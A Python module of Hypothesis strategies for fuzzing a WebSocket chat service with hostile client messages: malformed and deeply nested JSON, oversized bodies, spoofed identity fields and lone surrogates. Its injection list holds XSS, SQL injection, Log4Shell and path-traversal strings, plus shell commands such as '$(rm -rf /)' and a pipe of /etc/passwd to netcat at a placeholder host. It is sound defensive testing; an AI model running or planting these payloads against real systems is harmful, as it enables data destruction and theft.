"""Hypothesis strategies for what a hostile client can put in a WebSocket message.

Shared by the in-process runs (arbitrary events to the handlers) and the gateway runs
(arbitrary frames over a real socket): random JSON, nesting far past any parser's comfort,
strings at and over the size limits, control characters, lone surrogates spelled as JSON
escapes, numbers Python's json will not read, markup, SQL and shell text.
"""

from __future__ import annotations

import json
from typing import Any

from hypothesis import strategies as st

from switchboard.protocol import ACTIONS, MAX_POST_BYTES

#: Text meant to be interpreted by something downstream: it must arrive as plain data.
INJECTIONS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<b>bold</b> &amp; &lt;",
    "'; DROP TABLE connections; --",
    "' OR '1'='1",
    "Robert'); DELETE FROM rooms;--",
    "$(rm -rf /)",
    "`reboot`",
    "; cat /etc/passwd | nc evil 1",
    "${jndi:ldap://x/a}",
    "{{7*7}}",
    "%s%s%s%n",
    "../../etc/passwd",
    "\\x00\\u0000",
    "PK = :pk OR begins_with(SK, :x)",
)

controls = st.text(st.characters(categories=["Cc", "Cf", "Zl", "Zp"]), max_size=40)
surrogates = st.text(st.characters(categories=["Cs"]), min_size=1, max_size=4)
hostile_text = st.one_of(
    st.text(max_size=80),
    controls,
    st.sampled_from(INJECTIONS),
    st.tuples(st.text(max_size=8), surrogates, st.text(max_size=8)).map("".join),
)
json_scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=False, allow_infinity=False),
    hostile_text,
)
json_values = st.recursive(
    json_scalars,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(hostile_text, inner, max_size=4),
    max_leaves=16,
)
room_values = st.one_of(
    st.sampled_from(["lobby", "dev", "private:ops", "private:nowhere", "x" * 64, "x" * 65, ""]),
    st.from_regex(r"[A-Za-z0-9_.:-]{1,64}", fullmatch=True),
    json_values,
)
#: Identity a client might claim in its message; handlers must ignore every one of these.
spoofed_identity = st.fixed_dictionaries(
    {},
    optional={
        "from": json_values,
        "userId": json_values,
        "name": json_values,
        "connectionId": json_values,
        "guest": json_values,
        "authorizer": st.dictionaries(st.text(max_size=10), json_values, max_size=4),
        "requestContext": st.dictionaries(st.text(max_size=10), json_values, max_size=4),
        "rooms": st.lists(st.sampled_from(["private:ops", "private:x"])),
        "anonymous": st.sampled_from(["false", False, 0]),
    },
)


@st.composite
def action_messages(draw: st.DrawFn) -> dict[str, Any]:
    """A JSON object shaped like an action, every field possibly hostile."""
    message: dict[str, Any] = {
        "action": draw(st.sampled_from(ACTIONS) | json_values),
        **draw(spoofed_identity),
    }
    fields = {
        "room": room_values,
        "data": json_values,
        "to": st.sampled_from(["u-ada", "u-bob", "nobody"]) | json_values,
        "limit": st.integers(-3, 200) | json_values,
        "before": st.text(max_size=80) | json_values,
    }
    for name, values in fields.items():
        if draw(st.booleans()):
            message[name] = draw(values)
    return message


#: Well-formed actions carrying hostile data, so that accepted paths (fan-out, history,
#: joins) see it too, not only the validation in front of them.
plausible_messages = st.one_of(
    st.builds(
        lambda room, data: {"action": "sendmessage", "room": room, "data": data},
        st.sampled_from(["lobby", "dev"]),
        json_values,
    ),
    st.builds(
        lambda action, room: {"action": action, "room": room},
        st.sampled_from(["join", "leave", "members", "history"]),
        st.sampled_from(["dev", "lobby", "private:ops", "r-1", "a.b:c_d-e"]),
    ),
    st.builds(
        lambda to, data: {"action": "sendto", "to": to, "data": data},
        st.sampled_from(["u-ada", "u-bob"]),
        json_values,
    ),
    st.just({"action": "rooms"}),
)


def nested(depth: int, opener: str) -> str:
    """`depth` levels of arrays or objects, as text: Python could not build it as a value."""
    if opener == "[":
        return "[" * depth + "]" * depth
    return '{"a":' * depth + "1" + "}" * depth


def _deep_body(action: str, depth: int, opener: str, under_action: bool) -> str:
    deep = nested(depth, opener)
    if under_action:
        # Route selection reads `action` (and the gateway turns a non-string into JSON text).
        return '{"action": ' + deep + "}"
    return '{"action": ' + json.dumps(action) + ', "room": "lobby", "data": ' + deep + "}"


deep_bodies = st.builds(
    _deep_body,
    st.sampled_from(ACTIONS),
    st.one_of(st.integers(60, 70), st.integers(900, 1000), st.integers(1, 12_000)),
    st.sampled_from(["[", "{"]),
    st.booleans(),
)
#: Around the 128 KB a `@connections` POST may carry, and the 32 KB of one frame.
huge_sizes = st.one_of(
    st.integers(0, 40_000),
    st.integers(MAX_POST_BYTES - 300, MAX_POST_BYTES + 10),
    st.integers(MAX_POST_BYTES, 3 * MAX_POST_BYTES),
)
huge_bodies = st.builds(
    lambda size, field, filler: json.dumps(
        {"action": "sendmessage", "room": "lobby", field: filler * size}
        if field == "data"
        else {"action": "join", field: filler * size}
    ),
    huge_sizes,
    st.sampled_from(["data", "room", "name", "to"]),
    st.sampled_from(["x", "é", "\u0000", "😀"]),
)
odd_json_texts = st.sampled_from(
    [
        '{"action": "sendmessage", "data": ' + "9" * 5000 + "}",
        '{"action": "sendmessage", "data": NaN}',
        '{"action": "sendmessage", "data": -Infinity}',
        '{"action": "join", "action": "sendmessage", "room": "dev"}',
        '{"action": "sendmessage", "data": "\\ud800"}',
        '{"action": "sendmessage", "data": {"\\udfff": 1}}',
        '{"action": "sendmessage", "data": "\\u0000"}',
        '{"action": null}',
        '{"action": ["sendmessage"]}',
        "{}",
        "[]",
        "null",
        '"sendmessage"',
        "\ufeff{}",
        " \t\r\n",
        '{"action": "sendmessage", "data": 1} trailing',
        '{"action": "sendmessage" "data": 1}',
    ]
)
bodies = st.one_of(
    st.text(max_size=200),
    json_values.map(json.dumps),
    action_messages().map(json.dumps),
    action_messages().map(lambda m: json.dumps(m, ensure_ascii=False)),
    plausible_messages.map(json.dumps),
    deep_bodies,
    huge_bodies,
    odd_json_texts,
)


def utf8_safe(body: str) -> bool:
    """Whether a text frame can carry the body (it holds no lone surrogate)."""
    try:
        body.encode("utf-8")
    except UnicodeEncodeError:
        return False
    return True
